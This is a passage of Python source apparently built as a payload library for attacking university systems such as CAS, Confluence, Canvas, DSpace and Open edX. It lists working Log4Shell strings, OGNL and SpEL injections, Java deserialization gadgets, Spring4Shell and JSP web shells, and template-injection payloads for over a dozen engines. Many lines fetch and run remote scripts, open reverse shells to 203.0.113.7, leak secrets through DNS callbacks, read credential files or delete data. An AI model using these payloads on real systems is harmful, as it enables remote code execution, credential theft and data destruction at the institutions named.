    ("{\"@class\":\"com.mchange.v2.c3p0.JndiRefForwardingDataSource\",\"jndiName\":\"ldap://203.0.113.7:1389/C3p0\","
     "\"loginTimeout\":0}", *JB),
    # Spring
    ("[\"org.springframework.beans.factory.config.PropertyPathFactoryBean\",{\"targetBeanName\":"
     "\"ldap://203.0.113.7:1389/Spring\",\"propertyPath\":\"x\",\"beanFactory\":[\"org.springframework.jndi.support."
     "SimpleJndiBeanFactory\",{\"shareableResources\":[\"ldap://203.0.113.7:1389/Spring\"]}]}]", *JB),
    ("[\"org.springframework.context.support.FileSystemXmlApplicationContext\",\"http://203.0.113.7/spel.xml\"]", *JB),
    ("{\"@class\":\"org.springframework.transaction.jta.JtaTransactionManager\",\"userTransactionName\":"
     "\"ldap://203.0.113.7:1389/Jta\"}", *JB),
    # Groovy through XStream (Expando hashCode -> MethodClosure -> ProcessBuilder.start)
    ("<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string>"
     "<org.codehaus.groovy.runtime.MethodClosure><delegate class=\"groovy.util.Expando\"/>"
     "<owner class=\"java.lang.ProcessBuilder\"><command><string>/bin/sh</string><string>-c</string>"
     "<string>curl 203.0.113.7/g|sh</string></command></owner><method>start</method>"
     "</org.codehaus.groovy.runtime.MethodClosure></entry></expandoProperties></groovy.util.Expando><int>1</int>"
     "</entry></map>", *XB),
    ("<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
     "<handler class=\"org.codehaus.groovy.runtime.ConvertedClosure\"><methodName>compareTo</methodName>"
     "<delegate class=\"org.codehaus.groovy.runtime.MethodClosure\"><delegate class=\"string\">id</delegate>"
     "<owner class=\"string\">id</owner><method>execute</method></delegate></handler></dynamic-proxy></sorted-set>",
     *XB),
    # ROME (ObjectBean hashCode -> ToStringBean -> JdbcRowSetImpl getters -> JNDI)
    ("<java.util.HashMap><entry><com.sun.syndication.feed.impl.ObjectBean><_equalsBean><_beanClass>"
     "com.sun.syndication.feed.impl.ToStringBean</_beanClass><_obj class=\"com.sun.syndication.feed.impl.ToStringBean"
     "\"><_beanClass>com.sun.rowset.JdbcRowSetImpl</_beanClass><_obj class=\"com.sun.rowset.JdbcRowSetImpl\">"
     "<dataSource>ldap://203.0.113.7:1389/Rome</dataSource><concurrency>1008</concurrency></_obj></_obj>"
     "</_equalsBean></com.sun.syndication.feed.impl.ObjectBean><string>x</string></entry></java.util.HashMap>", *XB),
    # Hibernate (StatisticsService setter does a JNDI lookup)
    ("{\"@class\":\"org.hibernate.jmx.StatisticsService\",\"sessionFactoryJNDIName\":\"ldap://203.0.113.7:1389/Hib\"}",
     *JB),
    ("[\"org.hibernate.jmx.StatisticsService\",{\"sessionFactoryJNDIName\":\"rmi://203.0.113.7:1099/Hib\"}]", *JB),
]

# log4shell. Target: Log4j 2 lookups (JNDI) in what campus Java services log: Apereo CAS and Shibboleth login
# names, DSpace 7's Solr, Elasticsearch behind Koha, VMware Horizon for the virtual labs, Jira/Confluence.
LOG4SHELL: list[Entry] = [
    "${jndi:ldap://203.0.113.7:1389/cas}",
    "${jndi:ldaps://solr.k7q2m.oastify.com/dspace}",
    "${jndi:rmi://203.0.113.7:1099/Shib}",
    "${jndi:dns://${hostName}.k7q2m.oastify.com}",
    "${jndi:ldap://${sys:java.version}.${env:USER}.k7q2m.oastify.com/a}",
    "${jndi:ldap://${env:CAS_DB_PASSWORD}.k7q2m.oastify.com/b}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://203.0.113.7/c}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.7/d}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.7/e}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.7/f}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.7/g}",
    "${${upper:j}ndi:${upper:l}dap://203.0.113.7/h}",
    "${jndi:ldap://127.0.0.1#203.0.113.7:1389/i}",
    "${jndi:ldap://[2001:db8::7]:1389/j}",
    "${jndi:nis://203.0.113.7/k}",
    "${jndi:iiop://203.0.113.7/l}",
    "${jndi:ldap://${ctx:loginId}.k7q2m.oastify.com/m}",
    "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%3A1389%2Fn%7D",
    "\\u0024\\u007bjndi:ldap://203.0.113.7/o\\u007d",
    "${${::-${::-$${::-j}}}}",
]

# expression-language. Target: OGNL (Confluence, Struts 2 student portals), SpEL (Spring: CAS, Spring Cloud
# Function gateways), MVEL (Elasticsearch 1.x behind a catalogue), JEXL and JSP/JSF EL (JSF portals, Nexus).
EXPRESSION_LANGUAGE: list[Entry] = [
    # Confluence (CVE-2022-26134), the OGNL is the request path
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),"
     "\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}",
     "path", "rs-path"),
    # Confluence (CVE-2021-26084), queryString of the page-creation action
    ("queryString=aaa\\u0027+{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027).newInstance()."
     "getEngineByName(\\u0027js\\u0027).eval(\\u0027java.lang.Runtime.getRuntime().exec(\\u0022id\\u0022)\\u0027)}"
     "+\\u0027", *KVF),
    # Struts 2 (S2-045), the OGNL rides in Content-Type
    ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess="
     "#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container."
     "getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())."
     "(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#cmds={'/bin/sh','-c',"
     "#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
     "(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))}",
     "header:Content-Type", "rs-header:Content-Type"),
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'cat','/etc/passwd'})).redirectErrorStream(true)"
    ".start(),#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),"
    "#e=new char[50000],#d.read(#e),#f=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),"
    "#f.getWriter().println(new java.lang.String(#e)),#f.getWriter().flush(),#f.getWriter().close()}",
    # SpEL: Spring Cloud Function routing header, Spring Data / CAS webflow expressions
    ("T(java.lang.Runtime).getRuntime().exec(\"curl http://203.0.113.7/scf.sh -o /tmp/s\")",
     "header:spring.cloud.function.routing-expression", "rs-header:spring.cloud.function.routing-expression"),
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime().exec('nslookup cas.k7q2m.oastify.com')}",
    "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()",
    "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),"
    "T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse()"
    ".getOutputStream())",
    "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "${T(java.lang.System).getenv()}",
    # JSP/JSF EL evaluated twice (JSF student portal, Nexus bean-validation messages)
    "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "#{facesContext.externalContext.sessionMap}",
    "${pageContext.servletContext.getRealPath('/')}",
    "$\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/nexus')}",
    # MVEL: Elasticsearch 1.x dynamic scripts (CVE-2014-3120) and MVEL templates
    ("{\"size\":1,\"query\":{\"match_all\":{}},\"script_fields\":{\"x\":{\"script\":\"import java.util.*;import "
     "java.io.*;new Scanner(Runtime.getRuntime().exec(\\\"id\\\").getInputStream()).useDelimiter(\\\"\\\\\\\\A\\\")"
     ".next();\"}}}", *JB),
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    # JEXL (2 and 3)
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "new('java.lang.ProcessBuilder', ['/bin/sh','-c','id']).start()",
]

# polymorphic-deserialization. Target: XMLDecoder (PeopleSoft's WebLogic wls-wsat, CVE-2017-10271), XStream
# (REST endpoints of research-data services), Fastjson and Jackson default typing (Java microservices of the
# enrolment portal), SnakeYAML (config import of a Spring Boot tool).
POLYMORPHIC: list[Entry] = [
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext "
     "xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java version=\"1.4.0\" class=\"java.beans.XMLDecoder\">"
     "<void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\">"
     "<string>/bin/bash</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\"><string>"
     "curl 203.0.113.7/ps.sh|bash</string></void></array><void method=\"start\"/></void></java></work:WorkContext>"
     "</soapenv:Header><soapenv:Body/></soapenv:Envelope>", *XB),
    ("<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string>"
     "</void></object></java>", *XB),
    ("<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
     "<array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>calc</string></void></array>"
     "<void method=\"start\"/></object></java>", *XB),
    ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="
     "\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command>"
     "</target><action>start</action></handler></dynamic-proxy></sorted-set>", *XB),
    ("<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal."
     "bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding."
     "xml.XMLMessage$XmlDataSource\"><contentType>text/plain</contentType><is class=\"java.io.SequenceInputStream\">"
     "<e class=\"javax.swing.MultiUIDefaults$MultiUIDefaultsEnumerator\"><iterator class=\"javax.imageio.spi."
     "FilterIterator\"><iter class=\"java.util.ArrayList$Itr\"><cursor>0</cursor><lastRet>-1</lastRet>"
     "<expectedModCount>1</expectedModCount><outer-class><java.lang.ProcessBuilder><command><string>id</string>"
     "</command></java.lang.ProcessBuilder></outer-class></iter><filter class=\"javax.imageio.ImageIO$ContainsFilter"
     "\"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>start"
     "</name></filter><next/></iterator><type>KEYS</type></e><in class=\"java.io.ByteArrayInputStream\"><buf></buf>"
     "<pos>0</pos><mark>0</mark><count>0</count></in></is><consumed>false</consumed></dataSource><transferFlavors/>"
     "</dataHandler><dataLen>0</dataLen></value></jdk.nashorn.internal.objects.NativeString><string>test</string>"
     "</entry></map>", *XB),
    # Fastjson autoType
    ("{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://203.0.113.7:1389/Enrol\","
     "\"autoCommit\":true}", *JB),
    ("{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"b\":{\"@type\":"
     "\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://203.0.113.7:1389/Enrol\",\"autoCommit\":true}}",
     *JB),
    ("{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"rmi://203.0.113.7:1099/Enrol\","
     "\"autoCommit\":true}", *JB),
    ("{\"@type\":\"[com.sun.rowset.JdbcRowSetImpl\"[{,\"dataSourceName\":\"ldap://203.0.113.7:1389/Enrol\","
     "\"autoCommit\":true}", *JB),
    ("{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":[\""
     + TRANSLET_CLASS + "\"],\"_name\":\"a\",\"_tfactory\":{},\"_outputProperties\":{}}", *JB),
    ("{\"@type\":\"java.net.Inet4Address\",\"val\":\"fastjson.k7q2m.oastify.com\"}", *JB),
    # Jackson default typing
    ("[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://203.0.113.7:1389/Jackson\",\"autoCommit\":true}]",
     *JB),
    ("[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;"
     "INIT=RUNSCRIPT FROM 'http://203.0.113.7/inject.sql'\"}]", *JB),
    ("{\"@class\":\"org.apache.xbean.propertyeditor.JndiConverter\",\"asText\":\"ldap://203.0.113.7:1389/Xbean\"}",
     *JB),
    ("{\"id\":1,\"obj\":[\"org.apache.openjpa.ee.RegistryManagedRuntime\",{\"registryName\":"
     "\"ldap://203.0.113.7:1389/Jpa\",\"rollbackOnly\":null}]}", *JB),
    # SnakeYAML global tags
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.7/"
     "yaml-payload.jar\"]]]]", *YB),
    ("!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://203.0.113.7:1389/Yaml', autoCommit: true}", *YB),
    ("config: !!org.springframework.context.support.ClassPathXmlApplicationContext [\"http://203.0.113.7/beans.xml\"]",
     *YB),
]

# class-loading. Target: the JVM's class loaders (URLClassLoader, MLet, BCEL ClassLoader, defineClass through
# Spring's ReflectUtils, Groovy's Grape and parseClass) and Tomcat's class-loader properties bound from request
# parameters (Spring4Shell, Struts S2-020) on CAS, uPortal and Spring Boot tools.
CLASS_LOADING: list[Entry] = [
    "java.net.URLClassLoader.newInstance(new java.net.URL[]{new java.net.URL(\"http://203.0.113.7/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "T(java.net.URLClassLoader).newInstance(new java.net.URL[]{new java.net.URL('http://203.0.113.7/e.jar')})"
    ".loadClass('E').getConstructor().newInstance()",
    "new javax.management.loading.MLet(new java.net.URL[]{new java.net.URL('http://203.0.113.7/m.jar')})"
    ".loadClass('M').newInstance()",
    "new javax.script.ScriptEngineManager(new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("
    "'http://203.0.113.7/se.jar')}))",
    "Class.forName(\"Exploit\",true,new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("
    "\"http://203.0.113.7/\")}))",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Enrol',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('" + ENROL_CLASS + "'),new javax.management.loading.MLet(new java.net.URL[0],"
    "T(java.lang.Thread).currentThread().getContextClassLoader())).newInstance()",
    "def m=ClassLoader.class.getDeclaredMethod('defineClass',byte[].class,int.class,int.class);m.setAccessible(true);"
    "def b=java.util.Base64.decoder.decode('" + ENROL_CLASS + "');m.invoke(this.class.classLoader,b,0,b.length)"
    ".newInstance()",
    ("{\"@type\":\"org.apache.tomcat.dbcp.dbcp2.BasicDataSource\",\"driverClassLoader\":{\"@type\":"
     "\"com.sun.org.apache.bcel.internal.util.ClassLoader\"},\"driverClassName\":\"" + BCEL_ENROL + "\"}", *JB),
    "this.class.classLoader.parseClass('class X{static{\"id\".execute()}}').newInstance()",
    "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x',root='http://203.0.113.7/')\n"
    "@Grab(group='edu.example',module='poc',version='1')\nimport Exploit",
    # Spring4Shell (CVE-2022-22965): Tomcat's access-log valve rewritten into a JSP web shell
    ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i if(\"j\".equals(request."
     "getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\"))."
     "getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b));"
     " } } %{suffix}i&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
     "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
     "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
     "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=", *KVF),
    ("class.module.classLoader.URLs[0]=http://203.0.113.7/evil.jar", *KVQ),
    # Struts 2 (S2-020 / CVE-2014-0094) class-loader manipulation
    ("class.classLoader.resources.dirContext.docBase=\\\\203.0.113.7\\share", *KVF),
    ("class['classLoader']['jarPath']=http://203.0.113.7/x.jar", *KVQ),
]

# jsp-upload. Target: Tomcat/JBoss/WebLogic running uploaded JSP: Blackboard Learn building blocks, DSpace JSPUI
# and OpenCast upload forms, Liferay document libraries served from the webapp. Code goes in a field; file names
# go as uploads whose body is a JSP web shell.
JSP_SHELL = ("<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\"));"
             " BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; "
             "while ((l = r.readLine()) != null) { out.println(l); } %>")
JSP_UPLOAD: list[Entry] = [
    JSP_SHELL,
    "<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"c\")).getInputStream())"
    ".useDelimiter(\"\\\\A\").next()); %>",
    "<%! String run(String c) throws Exception { return new String(Runtime.getRuntime().exec(c).getInputStream()"
    ".readAllBytes()); } %><%= run(request.getParameter(\"x\")) %>",
    "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\"><jsp:scriptlet>Runtime.getRuntime().exec("
    "request.getParameter(\"cmd\"));</jsp:scriptlet></jsp:root>",
    "<jsp:scriptlet>new java.io.FileOutputStream(application.getRealPath(\"/\")+\"/s.jsp\").write(request."
    "getParameter(\"b\").getBytes());</jsp:scriptlet>",
    "<%= System.getenv() %>",
    "<%@ taglib uri=\"http://java.sun.com/jsp/jstl/core\" prefix=\"c\" %><c:import url=\"file:///etc/shibboleth/"
    "sp-key.pem\"/>",
    "<%@ page import=\"java.util.*,java.io.*\"%><% if (request.getParameter(\"k\").equals(\"bb\")) { "
    "Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",request.getParameter(\"c\")}); } %>",
    ("grade_export.jsp", *UP),
    ("syllabus.jspx", *UP),
    ("lecture-notes.JSP", *UP),
    ("thesis.jsp%00.pdf", *UP),
    ("../../webapps/ROOT/cmd.jsp", *UP),
    ("building-block.jsp;.png", *UP),
]

# ================================================================================================================
# ssti (one sub-family per template engine; each list names the campus system that renders user text with it)
# ----------------------------------------------------------------------------------------------------------------
# Jinja2. Target: JupyterHub's custom page templates, CKAN (the research-data portal), Flask LTI tools.
JINJA2: list[Entry] = [
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('cat /etc/jupyterhub/jupyterhub_config.py').read() }}",
    "{{ lipsum.__globals__['os'].popen('env').read() }}",
    "{{ joiner.__init__.__globals__.os.system('curl -s http://203.0.113.7/j.sh | sh') }}",
    "{{ namespace.__init__.__globals__.os.popen('cat /etc/ckan/default/ckan.ini').read() }}",
    "{{ config.items() }}",
    "{{ get_flashed_messages.__globals__.current_app.config['SECRET_KEY'] }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module."
    "__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
]

# Twig. Target: Drupal 8+ (most university web sites) and Grav/Craft department sites: a template field an editor
# or a contributed module renders.
TWIG: list[Entry] = [
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{['id']|filter('system')}}",
    "{{['cat /var/www/html/sites/default/settings.php']|map('passthru')}}",
    "{{['id',0]|sort('system')}}",
    "{{['curl -s http://203.0.113.7/d.sh | sh']|filter('exec')|join}}",
    "{{ ['nc -e /bin/sh 203.0.113.7 4444']|map('system')|join }}",
    "{{ _self.env.setCache('ftp://203.0.113.7:2121') }}{{ _self.env.loadTemplate('backdoor') }}",
    "{{ app.request.server.all|join(',') }}",
    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
    "{% set cmd = 'id' %}{{ [cmd]|map('system')|join }}",
]

# FreeMarker. Target: Liferay (web content templates, application display templates), OpenCms, Alfresco (the
# records-management store), and the Magnolia sites some faculties run.
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /opt/liferay/portal-ext.properties\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\","
    "[\"id\"]).start()}",
    "<#assign jy=\"freemarker.template.utility.JythonRuntime\"?new()><@jy>import os;os.system(\"id\")</@jy>",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('whoami')}",
    "<#assign value=\"freemarker.template.utility.Execute\"?new()>${value(\"curl http://203.0.113.7/f.sh -o /tmp/f\")}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign ult=serviceLocator.findService(\"com.liferay.portal.kernel.service.UserLocalService\")>"
    "${ult.getUsers(-1,-1)}",
    "<#assign cl=object?api.class.getClassLoader()>${cl.loadClass(\"java.lang.Runtime\")}",
]

# Velocity. Target: Sakai (tool templates), Apache Solr's VelocityResponseWriter behind DSpace discovery
# (CVE-2019-17558), Jira (CVE-2019-11581 ContactAdministrators) and Confluence (CVE-2019-3396 widget macro).
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    ("q=1&wt=velocity&v.template=custom&v.template.custom=#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))"
     "#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()", *KVQ),
    "$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null)"
    ".exec('curl http://203.0.113.7/jira.sh -o /tmp/j').waitFor()",
    ("{\"contentId\":\"786457\",\"macro\":{\"name\":\"widget\",\"body\":\"\",\"params\":{\"url\":"
     "\"https://www.viddler.com/v/23464dc5\",\"width\":\"1000\",\"height\":\"1000\",\"_template\":"
     "\"ftp://203.0.113.7/cmd.vm\",\"command\":\"id\"}}}", *JB),
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\").waitFor()",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"touch /tmp/sakai\")",
    "#set($s=$session.getClass().forName('java.lang.System'))$s.getMethod('getenv',null).invoke(null,null)",
    "#foreach($i in [1..99999999])#foreach($j in [1..99999999])$i#end#end",
    "${request.getServletContext().getRealPath('/')}",
]

# Thymeleaf. Target: Spring Boot tools and Apereo CAS 6 login themes: a view name or fragment built from input
# (__${...}__ preprocessing), templates stored in the database.
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x",
    "__${T(java.lang.Thread).sleep(10000)}__::x",
    "[[${T(java.lang.Runtime).getRuntime().exec('cat /etc/cas/config/cas.properties')}]]",
    "[(${T(java.lang.System).getenv()})]",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('whoami')}\"></p>",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "<div th:utext=\"${#ctx.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}\"></div>",
    "${T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','curl 203.0.113.7/t|sh'})}",
]

# ERB. Target: Canvas LMS (custom theme and outcome templates), Blacklight/Hyrax views, Redmine plugins.
ERB: list[Entry] = [
    "<%= `id` %>",
    "<%= system('cat config/database.yml') %>",
    "<%= File.read('/etc/passwd') %>",
    "<%= IO.popen('ls -la /var/canvas').readlines() %>",
    "<%= Dir.entries('/') %>",
    "<%= ENV.to_h %>",
    "<%= Rails.application.secrets.to_h %>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<%= `curl http://203.0.113.7/canvas.sh | sh` %>",
    "<% Kernel.exec('/bin/bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"') %>",
]

# Smarty. Target: OJS/OMP (PKP journal and monograph systems: email templates, custom blocks) and older Chamilo.
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{'cat /var/www/ojs/config.inc.php'|passthru}",
    "{if system('curl -s http://203.0.113.7/o.sh | sh')}{/if}",
    "{fetch file='/var/www/ojs/config.inc.php'}",
    "{function name='x(){};system(\"id\");function '}{/function}",
    "{math equation='(\"\\163\\171\\163\\164\\145\\155\")(\"\\151\\144\")'}",
    "{$smarty.template_object->smarty->disableSecurity()->display('string:{system(\"id\")}')}",
]

# Handlebars. Target: Node LTI tools and the course-announcement mailer that compile user text as a template.
_HBS_CHAIN = ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
              "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
              "{{this.pop}}{{this.push \"return require('child_process').execSync('CMD');\"}}{{this.pop}}"
              "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}"
              "{{/with}}{{/with}}{{/with}}")
HANDLEBARS: list[Entry] = [
    _HBS_CHAIN.replace("CMD", "id"),
    _HBS_CHAIN.replace("CMD", "cat /etc/passwd"),
    _HBS_CHAIN.replace("CMD", "curl -s http://203.0.113.7/h.sh | sh"),
    _HBS_CHAIN.replace("return require('child_process').execSync('CMD');",
                       "return process.mainModule.require('fs').readFileSync('/app/.env','utf8');"),
    "{{#with (lookup this \"constructor\") as |c|}}{{#with (lookup c \"constructor\") as |f|}}{{f}}{{/with}}{{/with}}",
    "{{#each (lookup (lookup this \"constructor\") \"prototype\")}}{{@key}}={{this}} {{/each}}",
    ("{\"__proto__\":{\"type\":\"Program\",\"body\":[{\"type\":\"MustacheStatement\",\"path\":0,\"params\":[{\"type\":"
     "\"NumberLiteral\",\"value\":\"process.mainModule.require('child_process').execSync('id')\"}],"
     "\"loc\":{\"start\":0,\"end\":0}}]}}", *JB),
    ("{\"__proto__\":{\"pendingContent\":\"<script>fetch('//203.0.113.7/'+document.cookie)</script>\"}}", *JB),
    _HBS_CHAIN.replace("require('child_process').execSync('CMD')", "process.mainModule.require('child_process')"
                       ".execSync('whoami')"),
]

# Pug. Target: Express course tools whose page templates are editable by instructors.
PUG: list[Entry] = [
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "#{root.process.mainModule.require('child_process').spawnSync('cat',['/etc/passwd']).stdout}",
    "- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')\n"
    "= x.exec('id | nc 203.0.113.7 4444')",
    "p #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('curl 203.0.113.7/p|sh')}()}",
    "- global.process.mainModule.require('child_process').exec('touch /tmp/pug')",
    "!{global.process.mainModule.require('fs').readFileSync('/app/config/lti.json')}",
    "= process.mainModule.require('child_process').execSync('whoami')",
    "div(class=global.process.mainModule.require('child_process').execSync('id').toString())",
    "-\n  var cp = process.mainModule.require('child_process')\n  cp.exec('rm -rf /srv/course-files')",
]

# Mako. Target: Open edX (course About pages and custom templates), Pyramid-based research portals.
MAKO: list[Entry] = [
    "${self.module.cache.util.os.system('id')}",
    "<%import os%>${os.popen('id').read()}",
    "${__import__('os').popen('cat /edx/etc/lms.yml').read()}",
    "<% import subprocess; x = subprocess.check_output(['id']) %>${x}",
    "<%! import os %>${os.environ}",
    "${self.template.module.cache.util.os.popen('whoami').read()}",
    "${self.attr._NSAttr__parent.module.cache.util.os.system('curl 203.0.113.7/m|sh')}",
    "${context.__class__.__init__.__globals__['__builtins__']['__import__']('os').popen('id').read()}",
    "<%\nimport os\nos.system('nc -e /bin/sh 203.0.113.7 4444')\n%>",
]

# Tornado templates. Target: Jupyter notebook servers and JupyterHub (Tornado), custom nbviewer pages.
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen('id').read() }}",
    "{{ __import__('os').popen('cat /etc/jupyterhub/jupyterhub_config.py').read() }}",
